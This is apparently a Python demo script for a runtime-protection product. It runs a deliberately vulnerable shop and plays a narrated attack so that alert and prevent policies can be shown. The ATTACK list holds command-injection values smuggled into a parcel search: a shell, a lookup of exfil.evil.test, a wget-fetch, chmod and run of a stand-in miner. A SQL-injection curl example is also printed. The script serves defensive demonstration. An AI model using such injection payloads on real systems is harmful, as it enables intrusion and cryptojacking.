"""`make run`: a Console, a protected shop in real containers, and a narrated attack; then it stays up until Ctrl-C.

Nothing here is special: it types the commands of the README, in the same order as a user would.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import re
import secrets
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from bartizan.registry import File, ImageConfig, Link, defender_image, write_image
from bartizan.runtask import check_platform

HERE = Path(__file__).resolve().parent

sys.path[:0] = [str(HERE), str(HERE / "shop")]
from image import shop_files  # noqa: E402 - the path is set just above

import demo_firewall  # noqa: E402

BARTIZAN = [sys.executable, "-m", "bartizan.cli"]
DEFENDER = Path(os.environ["BARTIZAN_DEFENDER"])
HOST = "host.bartizan.internal"
SHOP_IMAGE, DEFENDER_IMAGE = "battlement/shop:1", "bartizan/defender:0.1.0"
EFFECTS = {"alert": "reports", "prevent": "prevents"}
WAAS_PORT, SHOP_PORT = 80, 8080
MINER = b"#!/bin/sh\necho mining for somebody else\n"
ATTACK = [
    ("a shell, through the hole in the parcel search", "BTZ-1 -exec sh -c id ;"),
    ("a look-up of a domain that data is smuggled out by", "BTZ-1 -exec getent ahosts exfil.evil.test ;"),
    ("a download from a miners' pool", "BTZ-1 -exec wget -q -O /tmp/xmrig http://pool.miner.test:3334/xmrig ;"),
    ("the download made executable", "BTZ-1 -exec chmod 755 /tmp/xmrig ;"),
    ("the miner started", "BTZ-1 -exec /tmp/xmrig ;"),
]


def main() -> int:
    """Play everything once, then wait for Ctrl-C."""
    problems = check_platform()
    with contextlib.ExitStack() as stack, contextlib.suppress(KeyboardInterrupt):
        signal.signal(signal.SIGTERM, lambda *_: signal.raise_signal(signal.SIGINT))
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="bartizan-demo-")))
        console = stack.enter_context(started_console(folder))
        if problems:
            say(f"Real containers cannot be run here ({'; '.join(problems)}).")
            say("So the shop runs as a plain process, protected in app-embedded mode, as after a Dockerfile embed.")
            shop = stack.enter_context(embedded_shop(folder, console))
        else:
            shop = stack.enter_context(protected_task(folder, console))
        stack.enter_context(shown_audits(console))
        for effect in ("alert", "prevent"):
            attack(shop, console, effect)
        for effect in ("alert", "prevent"):
            title(f"Another attack, under a firewall that {EFFECTS[effect]}")
            demo_firewall.attack(shop.url, console, effect, ports=shop.ports, say=say)
        title("Everything stays up until Ctrl-C")
        say(f"Shop      {shop.url}")
        say(f"Firewall  try curl -i '{shop.url}/goods?named=%27+OR+1=1+--'")
        say(f"Browser   {console.url}/  (the certificate is the Console's own)")
        say(f"Log in    user admin, password {console.password}")
        say(f"Try       BARTIZAN_PASSWORD={console.password} bartizan audits --address {console.url} \\")
        say(f"            --ca-file {console.ca_file} --user admin")
        signal.pause()
    say("\nEverything is stopped and removed.")
    return 0


class Console:
    """The Console of the demonstration."""

    def __init__(self, data: Path) -> None:
        self.data = data
        self.ca_file = data / "ca.pem"
        self.password = secrets.token_urlsafe(12)
        state = json.loads((data / "console.json").read_text())
        self.url, self.channel_port = state["api"], state["channelPort"]
        context = ssl.create_default_context(cafile=str(self.ca_file))
        self.http = httpx.Client(
            base_url=f"{self.url}/api/v1/", auth=("admin", self.password), verify=context, timeout=20
        )

    def environment(self) -> dict[str, str]:
        """What a `bartizan` command needs to reach this Console."""
        given = {"ADDRESS": self.url, "USER": "admin", "PASSWORD": self.password, "CA_FILE": str(self.ca_file)}
        return os.environ | {f"BARTIZAN_{name}": value for name, value in given.items()}

    def run(self, *words: str) -> str:
        """Run a `bartizan` command against this Console, showing it; return what it printed."""
        say(f"$ bartizan {' '.join(words)}")
        done = subprocess.run(
            [*BARTIZAN, *words], env=self.environment(), check=True, stdout=subprocess.PIPE, text=True
        )
        return done.stdout


@contextlib.contextmanager
def started_console(folder: Path) -> Iterator[Console]:
    """Start the Console and make the administrator."""
    title("A Console")
    data = folder / "console"
    ports = [str(port) if port_is_free(port) else "0" for port in (8083, 8084)]
    command = [*BARTIZAN, "console", "--data-dir", str(data), "--san", HOST]
    command += ["--api-address", f":{ports[0]}", "--channel-address", f":{ports[1]}"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, start_new_session=True)
    closing = contextlib.ExitStack()
    try:
        if process.stdout is None or not process.stdout.readline():
            raise SystemExit("the Console did not start")
        console = Console(data)
        closing.callback(console.http.close)
        token = (data / "setup-token").read_text().strip()
        console.run("signup", "--token", token)
        say(f"The Console listens at {console.url}; user admin, password {console.password}")
        yield console
    finally:
        closing.close()
        process.terminate()
        process.wait()


def port_is_free(port: int) -> bool:
    """True when nobody listens on a port of this machine."""
    with contextlib.closing(socket.socket(socket.AF_INET6)) as probe, contextlib.suppress(OSError):
        probe.bind(("::", port))
        return True
    return False


class Shop:
    """The running shop; ``ports`` are the firewall's and its own."""

    def __init__(self, address: str, ports: tuple[int, int]) -> None:
        self.url = f"http://{address}" if ports[0] == WAAS_PORT else f"http://{address}:{ports[0]}"
        self.ports = ports

    def track(self, parcel: str) -> str:
        """Search for a parcel; return what the page says."""
        page = httpx.get(f"{self.url}/track", params={"parcel": parcel}, timeout=30).text
        return html.unescape(page.split("<pre>", 1)[1].split("</pre>", 1)[0]).strip()


@contextlib.contextmanager
def protected_task(folder: Path, console: Console) -> Iterator[Shop]:
    """Protect the shop's task definition and run it."""
    title("A task definition becomes a protected one")
    images = {SHOP_IMAGE: folder / "images/shop", DEFENDER_IMAGE: folder / "images/defender"}
    write_image(
        images[SHOP_IMAGE], files=image_files(), config=shop_config(), reference=SHOP_IMAGE, architecture="amd64"
    )
    defender_image(images[DEFENDER_IMAGE], binary=DEFENDER, architecture="amd64", reference=DEFENDER_IMAGE)
    task, protected = HERE / "shop/task.json", folder / "protected.json"
    console.run(
        "app-embedded", "generate-fargate-task", "--console-host", HOST, "--output-file", str(protected),
        "--waas-port", f"{WAAS_PORT}:{SHOP_PORT}", "--image", f"{SHOP_IMAGE}=oci:{images[SHOP_IMAGE]}", str(task),
    )  # fmt: skip
    title("The protected task runs here, as it would on Fargate")
    options = [word for name, path in images.items() for word in ("--image", f"{name}=oci:{path}")]
    say(f"$ bartizan run-task {protected} {' '.join(options)} --name-server 127.0.0.1")
    command = [*BARTIZAN, "run-task", str(protected), *options, "--name-server", "127.0.0.1", "--health-scale", "0.2"]
    process = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, start_new_session=True
    )
    with contextlib.ExitStack() as stack:
        stack.callback(process.wait)
        stack.callback(process.terminate)
        assert process.stderr is not None
        found = re.search(r"address is (\S+), this machine's is (\S+), namespace (\S+)", process.stderr.readline())
        if found is None:
            raise SystemExit(f"the task did not start: {process.stderr.read()}")
        address, host, namespace = found.groups()
        stack.enter_context(name_server(["nsenter", f"--net={namespace}"], host))
        stack.enter_context(miners_pool(host))
        for line in process.stderr:
            say(f"  {line.strip()}")
            if "shop started" in line:
                break
        threading.Thread(target=process.stderr.read, daemon=True).start()
        wait_until_serving(address, SHOP_PORT)
        yield Shop(address, (WAAS_PORT, SHOP_PORT))


def image_files() -> list[File]:
    """The shop's files."""
    return [
        File(name, mode, Link(content.removeprefix("link:")) if isinstance(content, str) else content)
        for name, mode, content in shop_files()
    ]


def shop_config() -> ImageConfig:
    """What a Dockerfile of the shop would say."""
    return ImageConfig(entrypoint=("/shop/shop.py",), working_dir="/shop", env=("PATH=/usr/bin:/bin",))


@contextlib.contextmanager
def embedded_shop(folder: Path, console: Console) -> Iterator[Shop]:
    """Run the shop as a plain process under the Defender, as a rebuilt image would."""
    parcels, data = folder / "parcels", folder / "defender"
    parcels.mkdir()
    data.mkdir()
    (parcels / "BTZ-1").write_text("a bucket of pitch, out for delivery\n")
    bundle = console.http.get("defenders/install-bundle", params={"consoleaddr": "localhost"}).json()
    exposed, port = free_port(), free_port()
    environment = os.environ | {
        "DEFENDER_TYPE": "appEmbedded", "DEFENDER_APP_ID": "battlement-shop", "DATA_FOLDER": str(data),
        "WS_ADDRESS": bundle["wsAddress"], "INSTALL_BUNDLE": bundle["installBundle"],
        "SHOP_PORT": str(port), "SHOP_PARCELS": str(parcels), "DEFENDER_WAAS_PORTS": f"{exposed}:{port}",
    }  # fmt: skip
    command = [str(DEFENDER), "app-embedded", sys.executable, str(HERE / "shop/shop.py")]
    process = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, start_new_session=True)
    try:
        wait_until_serving("127.0.0.1", port)
        yield Shop("127.0.0.1", (exposed, port))
    finally:
        process.terminate()
        process.wait()
        Path("/tmp/xmrig").unlink(missing_ok=True)  # noqa: S108 - what the attack left


def free_port() -> int:
    """A port that nobody listens on."""
    with contextlib.closing(socket.create_server(("127.0.0.1", 0))) as probe:
        port: int = probe.getsockname()[1]
        return port


def wait_until_serving(address: str, port: int) -> None:
    """Wait until the shop accepts connections."""
    for _ in range(300):
        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=1):
            return
        threading.Event().wait(0.1)
    raise SystemExit("the shop did not start")


@contextlib.contextmanager
def name_server(prefix: list[str], host: str) -> Iterator[None]:
    """A name server inside the task's network namespace: it knows the attacker's names."""
    table = [f"exfil.evil.test={host}", f"pool.miner.test={host}"]
    command = [*prefix, sys.executable, str(HERE / "name_server.py"), "127.0.0.1", "53", *table]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, start_new_session=True)
    assert process.stdout is not None
    process.stdout.readline()
    threading.Thread(target=process.stdout.read, daemon=True).start()
    try:
        yield
    finally:
        process.kill()
        process.wait()


@contextlib.contextmanager
def miners_pool(host: str) -> Iterator[None]:
    """A web server that hands out a harmless "miner", reachable from the task only."""

    class Pool(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(MINER)

        def log_message(self, template: str, *values: object) -> None:
            pass

    server = ThreadingHTTPServer((host, 3334), Pool)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


def attack(shop: Shop, console: Console, effect: str) -> None:
    """Put a policy in force and play the attack."""
    title(f"The attack, under a policy that {EFFECTS[effect]}")
    console.run("policy", "put", str(policy_file(console, effect)))
    wait_for_policy(console)
    for what, parcel in ATTACK:
        say(f"\n→ {what}:  {parcel}")
        said = shop.track(parcel)
        say(f"  the shop answers: {' / '.join(said.splitlines()) or 'nothing'}")
        threading.Event().wait(0.7)
    say(f"\n→ and an ordinary customer:  BTZ-1\n  the shop answers: {shop.track('BTZ-1')}")


def policy_file(console: Console, effect: str) -> Path:
    """The example's policy; widened to every workload where there are no containers to scope by."""
    path = HERE / f"shop/policy-{effect}.json"
    if not check_platform():
        return path
    policy = json.loads(path.read_text())
    policy["rules"][0]["collections"] = [{"name": "shop", "appIDs": ["battlement-shop"]}]
    widened = console.data / path.name
    widened.write_text(json.dumps(policy))
    return widened


def wait_for_policy(console: Console) -> None:
    """Wait until the Defender says that the policy is in force."""
    for _ in range(200):
        defenders: list[dict[str, Any]] = console.http.get("defenders", params={"connected": "true"}).json()
        workloads = [workload for defender in defenders for workload in defender["workloads"]]
        if workloads and all(one["policyHash"] == one["desiredPolicyHash"] for one in workloads):
            return
        threading.Event().wait(0.05)
    raise SystemExit(f"the Defender did not take the policy: {defenders}")


@contextlib.contextmanager
def shown_audits(console: Console) -> Iterator[None]:
    """Print every audit as the Console announces it."""
    command = [*BARTIZAN, "audits", "--follow"]
    process = subprocess.Popen(
        command,
        env=console.environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        start_new_session=True,
    )

    def show() -> None:
        for line in process.stdout or ():
            say(f"  ⚑ audit  {line.strip()}")

    threading.Thread(target=show, daemon=True).start()
    try:
        yield
    finally:
        process.kill()
        process.wait()


def title(text: str) -> None:
    """Print a heading."""
    say(f"\n\033[1m{text}\033[0m" if sys.stdout.isatty() else f"\n== {text}")


def say(text: str) -> None:
    """Print a line at once."""
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


if __name__ == "__main__":
    sys.exit(main())
